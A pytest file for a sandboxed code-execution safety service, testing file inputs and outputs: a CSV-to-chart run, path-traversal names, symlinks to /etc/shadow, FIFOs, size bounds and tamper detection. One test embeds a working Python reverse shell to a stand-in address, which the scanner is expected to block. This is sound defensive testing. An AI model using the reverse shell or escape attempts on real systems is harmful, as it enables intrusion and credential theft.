"""Files in and files out (issue #25), through the application with the real sandbox (Docker, runc)
and the real scanners, on SQLite (what runs is the same on either ledger): a CSV in and a chart
out, every input and output kept as a blob the chain names, and the attacks on the working
directory: names that climb out, links to host files and devices, a FIFO, a file still growing,
ten thousand files, and a helper module hiding a reverse shell."""

from __future__ import annotations

import hashlib
import json
import os
import sqlite3
import time
from collections.abc import Iterator
from pathlib import Path

import docker
import pytest

from mai_safety.application.executions import MaiSafety
from mai_safety.domain.errors import SubmissionTooLarge
from mai_safety.domain.files import InvalidInputFile
from mai_safety.infrastructure.bootstrap import bootstrap

from .cli_helpers import policies_with, run_cli, suite_policies
from .conftest import run_overridden, runtime_policies, settings_for, skip_without_gvisor, started_event

CSV = b"city,rain_mm\nOslo,763\nBergen,2250\nTromso,1030\n"
#: A 1x1 PNG, written by the code from the CSV's numbers (no imaging library in the minimal image).
TO_CHART = b"""
import base64, csv
rows = list(csv.DictReader(open("data.csv")))
print("wettest:", max(rows, key=lambda row: int(row["rain_mm"]))["city"])
with open("chart.png", "wb") as out:
    out.write(base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="))
"""


@pytest.fixture(params=["runc", "runsc"])
def walled_app(request: pytest.FixtureRequest, tmp_path: Path, docker_client: docker.DockerClient) -> Iterator[MaiSafety]:
    """The collection under each wall: from outside by the container's root descriptor (runc), and
    inside gVisor's kernel by exec after the code's processes ended (runsc)."""
    if request.param == "runsc":
        skip_without_gvisor()
    application = bootstrap(settings_for(f"sqlite:///{tmp_path / 'ledger.sqlite'}", runtime_policies(tmp_path, request.param)))
    yield application
    application.close()


def _blob_row(app: MaiSafety, sha256: str) -> bytes | None:
    assert app.blobs is not None
    return app.blobs.get(sha256, 1 << 30)


def test_a_csv_goes_in_and_a_chart_comes_out_recorded_as_blobs(app: MaiSafety) -> None:
    report = app.run(TO_CHART, files={"data.csv": CSV})
    assert report.status == "completed", report
    assert "wettest: Bergen" in report.stdout
    assert report.files_in == [{"name": "data.csv", "bytes": len(CSV), "sha256": hashlib.sha256(CSV).hexdigest()}]
    (chart,) = report.files_out  # the input, unchanged, is not an output
    assert chart["name"] == "chart.png" and chart["media_type"] == "image/png"
    record, data = app.file(report.execution_id, "chart.png")
    assert data.startswith(b"\x89PNG") and hashlib.sha256(data).hexdigest() == chart["sha256"] == record["sha256"]
    assert _blob_row(app, report.files_in[0]["sha256"]) == CSV
    assert app.verify().intact


@pytest.mark.parametrize("name", ["../x", "/etc/x", "a/../../x", "x\x00y", "bad\nname", ""])
def test_a_name_that_could_leave_the_working_directory_is_refused_and_nothing_is_recorded(app: MaiSafety, name: str) -> None:
    before = app.recorder.max_notification_id()
    with pytest.raises(InvalidInputFile) as refused:
        app.run(b"print(1)\n", files={"ok.txt": b"1", name: b"x"})
    assert refused.value.field == "files[1].name"
    assert app.recorder.max_notification_id() == before


def test_ten_thousand_files_or_one_over_the_bound_are_refused_before_anything_is_recorded(app: MaiSafety) -> None:
    before = app.recorder.max_notification_id()
    with pytest.raises(SubmissionTooLarge) as many:
        app.run(b"print(1)\n", files={f"f{number}.txt": b"x" for number in range(10_000)})
    assert getattr(many.value, "field", None) == "files"
    bounds = app.policy.files
    with pytest.raises(SubmissionTooLarge) as large:
        app.run(b"print(1)\n", files={"big.bin": b"\0" * (bounds.max_input_bytes + 1)})
    assert getattr(large.value, "field", None) == "files[0].content_base64"
    assert app.recorder.max_notification_id() == before


def test_an_input_module_hiding_a_reverse_shell_raises_the_verdict(app: MaiSafety) -> None:
    helper = b"""
import socket, subprocess, os
def report(rows):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("203.0.113.7", 4444))
    os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
    subprocess.call(["/bin/sh", "-i"])
"""
    alone = app.assess(b"import helper\nhelper.report([])\n")
    report = app.run(b"import helper\nhelper.report([])\n", files={"helper.py": helper})
    assert report.level in ("HIGH", "BLOCKED") and alone.level in ("LOW", "MEDIUM")
    assert report.status == "awaiting_override"  # it did not run
    assert any("helper.py" in finding["message"] for finding in report.findings)


def test_an_input_module_is_importable_by_the_program(app: MaiSafety) -> None:
    report = app.run(b"import helper\nprint(helper.twice(21))\n", files={"helper.py": b"def twice(n):\n    return 2 * n\n"})
    assert report.stdout.strip() == "42", report
    assert report.files_out == []  # no __pycache__ left behind by the import


def test_links_fifos_and_devices_in_the_working_directory_are_listed_never_followed(walled_app: MaiSafety) -> None:
    code = b"""
import os
os.symlink("/etc/shadow", "shadow")
os.symlink("/dev/zero", "zero")
os.symlink("/proc/1/root/etc/hostname", "hostname")
os.mkfifo("pipe")
os.makedirs("sub", exist_ok=True)
open("sub/real.txt", "w").write("mine")
"""
    report = run_overridden(walled_app, code, files={"data.csv": CSV})  # links to /etc/shadow: held back by the assessor
    assert report.status == "completed", report
    assert [item["name"] for item in report.files_out] == ["sub/real.txt"]
    assert walled_app.file(report.execution_id, "sub/real.txt")[1] == b"mine"
    ending = walled_app.history(report.execution_id)[-1]
    note = ending["outcome"]["observations"]["files_out"]
    left = {item["name"]: item for item in note["left_out"]}
    assert left["shadow"]["kind"] == "symlink" and left["shadow"]["target"] == "/etc/shadow"
    assert left["zero"]["kind"] == "symlink" and left["pipe"]["kind"] == "fifo"
    assert note["left_out_count"] == 4


def test_outputs_over_the_bounds_are_left_out_and_said_so(app: MaiSafety) -> None:
    bounds = app.policy.files
    code = f"""
for number in range({bounds.max_outputs + 5}):
    open(f"out{{number:04d}}.txt", "w").write("x")
open("huge.bin", "wb").write(b"\\0" * {bounds.max_output_bytes + 1})
""".encode()
    report = app.run(code)
    assert report.status == "completed", report
    assert len(report.files_out) == bounds.max_outputs
    note = app.history(report.execution_id)[-1]["outcome"]["observations"]["files_out"]
    assert note["left_out_count"] == 6
    assert any(item["name"] == "huge.bin" and "per output file" in item["why"] for item in note["left_out"])


def test_a_file_still_growing_while_it_is_collected_is_bounded(app: MaiSafety) -> None:
    """A detached child keeps appending after the program ends: collection reads at most the bound,
    never waits for the end, and the run's record says what it left out or took."""
    near = app.policy.files.max_output_bytes - 128 * 1024
    code = f"""
import os, time
ready, told = os.pipe()
if os.fork() == 0:
    os.setsid()
    with open("growing.log", "ab", buffering=0) as out:
        out.write(b"y" * {near})
        os.write(told, b"!")
        while True:
            out.write(b"y" * 4096)
            time.sleep(0.001)
os.read(ready, 1)
print("parent done")
""".encode()
    report = app.run(code)
    assert "parent done" in report.stdout
    taken = [item for item in report.files_out if item["name"] == "growing.log"]
    note = app.history(report.execution_id)[-1]["outcome"].get("observations", {}).get("files_out", {})
    left = [item for item in note.get("left_out", []) if item["name"] == "growing.log"]
    assert taken or left or report.termination_reason in ("disk", "timeout"), report
    for item in taken:
        assert item["bytes"] <= app.policy.files.max_output_bytes


def test_a_tampered_output_blob_fails_audit_verify(app: MaiSafety, tmp_path: Path) -> None:
    report = app.run(b"open('result.txt', 'w').write('forty-two')\n")
    (result,) = report.files_out
    ledger = sqlite3.connect(tmp_path / "ledger.sqlite")
    with ledger:
        ledger.execute("UPDATE stored_events_blobs SET data = ? WHERE sha256 = ?", (b"forty-tw0", result["sha256"]))
    ledger.close()
    verdict = app.verify()
    assert not verdict.intact
    assert any("output file 'result.txt'" in problem and "blob mismatch" in problem for problem in verdict.problems)


def test_the_cli_takes_files_and_writes_the_outputs_into_a_directory(tmp_path: Path, docker_client: docker.DockerClient) -> None:
    """`run PROG --file data.csv --output-dir OUT --json`, as a user types it (local mode)."""
    env = {"MAI_SAFETY_DATABASE_URL": f"sqlite:///{tmp_path / 'ledger.sqlite'}", "MAI_SAFETY_ACTOR": "tester", "MAI_SAFETY_POLICIES": str(suite_policies()),
           "XDG_CONFIG_HOME": str(tmp_path / "config"), "XDG_STATE_HOME": str(tmp_path / "state")}  # the key and witness stay in the test's folder
    (tmp_path / "chart.py").write_bytes(TO_CHART)
    (tmp_path / "rain.csv").write_bytes(CSV)
    out = tmp_path / "out"
    done = run_cli(["run", str(tmp_path / "chart.py"), "--file", f"{tmp_path / 'rain.csv'}:data.csv", "--output-dir", str(out), "--json"], env)
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout)
    assert report["files_in"][0]["name"] == "data.csv" and report["files_out"][0]["name"] == "chart.png"
    assert hashlib.sha256((out / "chart.png").read_bytes()).hexdigest() == report["files_out"][0]["sha256"]
    # Again: the chart is there, so nothing is overwritten without --force (the run itself is recorded).
    again = run_cli(["run", str(tmp_path / "chart.py"), "--file", f"{tmp_path / 'rain.csv'}:data.csv", "--output-dir", str(out)], env)
    assert again.returncode == 2 and "exists" in again.stderr and "--force" in again.stderr and "Traceback" not in again.stderr
    forced = run_cli(["run", str(tmp_path / "chart.py"), "--file", f"{tmp_path / 'rain.csv'}:data.csv", "--output-dir", str(out), "--force"], env)
    assert forced.returncode == 0, forced.stderr


@pytest.mark.parametrize("kind", ["link to a host file", "fifo", "device", "bad name"])
def test_the_cli_refuses_a_file_it_should_not_read_in_one_line(tmp_path: Path, kind: str) -> None:
    env = {"MAI_SAFETY_DATABASE_URL": f"sqlite:///{tmp_path / 'ledger.sqlite'}", "MAI_SAFETY_ACTOR": "tester", "MAI_SAFETY_POLICIES": str(suite_policies()),
           "XDG_CONFIG_HOME": str(tmp_path / "config"), "XDG_STATE_HOME": str(tmp_path / "state")}  # the key and witness stay in the test's folder
    (tmp_path / "prog.py").write_text("print(1)\n")
    given = {"link to a host file": tmp_path / "shadow", "fifo": tmp_path / "pipe", "device": Path("/dev/zero"), "bad name": tmp_path / "ok.txt"}[kind]
    if kind == "link to a host file":
        given.symlink_to("/etc/passwd")
    elif kind == "fifo":
        os.mkfifo(given)
    elif kind == "bad name":
        given.write_text("x")
    spec = f"{given}:../escape.txt" if kind == "bad name" else str(given)
    done = run_cli(["run", str(tmp_path / "prog.py"), "--file", spec], env)
    assert done.returncode == 2, done
    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr
    assert not (tmp_path / "ledger.sqlite").exists() or _events(tmp_path / "ledger.sqlite") == 0


def _events(path: Path) -> int:
    with sqlite3.connect(path) as connection:
        try:
            return int(connection.execute("SELECT count(*) FROM stored_events").fetchone()[0])
        except sqlite3.OperationalError:
            return 0


PLOT = b"""
import pandas as pd
import matplotlib.pyplot as plt
rain = pd.read_csv("data.csv")
print("wettest:", rain.loc[rain.rain_mm.idxmax(), "city"])
rain.plot.bar(x="city", y="rain_mm", legend=False)
plt.savefig("chart.png")
"""


def test_the_data_image_turns_a_csv_into_a_matplotlib_chart(app: MaiSafety) -> None:
    report = app.run(PLOT, files={"data.csv": CSV}, image="data")
    assert report.status == "completed", report
    assert "wettest: Bergen" in report.stdout
    (chart,) = report.files_out
    assert chart["name"] == "chart.png" and app.file(report.execution_id, "chart.png")[1].startswith(b"\x89PNG")
    started = started_event(app, report.execution_id)
    assert started["image"] == "mai-safety/sandbox-data:1"
    assert app.status()["images"]["data"] == {"tag": "mai-safety/sandbox-data:1", "present": True}
    # The default image stays minimal: the same code fails there for want of pandas.
    assert "No module named 'pandas'" in app.run(PLOT, files={"data.csv": CSV}).stderr


def test_the_data_image_keeps_its_own_warm_pool(tmp_path: Path, docker_client: docker.DockerClient) -> None:
    policies = policies_with(tmp_path, limits={"images.data.pool": {"standard": 1}})
    application = bootstrap(settings_for(f"sqlite:///{tmp_path / 'ledger.sqlite'}", policies))
    try:
        deadline = time.monotonic() + 60
        while application.sandbox.pool_status().get("data/standard", {}).get("waiting", 0) < 1:
            assert time.monotonic() < deadline, application.sandbox.pool_status()
            time.sleep(0.2)
        report = application.run(PLOT, files={"data.csv": CSV}, image="data")
        assert report.status == "completed" and [item["name"] for item in report.files_out] == ["chart.png"], report
        started = started_event(application, report.execution_id)
        assert started["image"] == "mai-safety/sandbox-data:1" and started["sizing"]["host"]["pooled"] is True
        # A default-image run never takes the data image's container.
        plain = application.run(b"print(1)\n")
        started = started_event(application, plain.execution_id)
        assert started["image"] == "mai-safety/sandbox:1"
    finally:
        application.close()
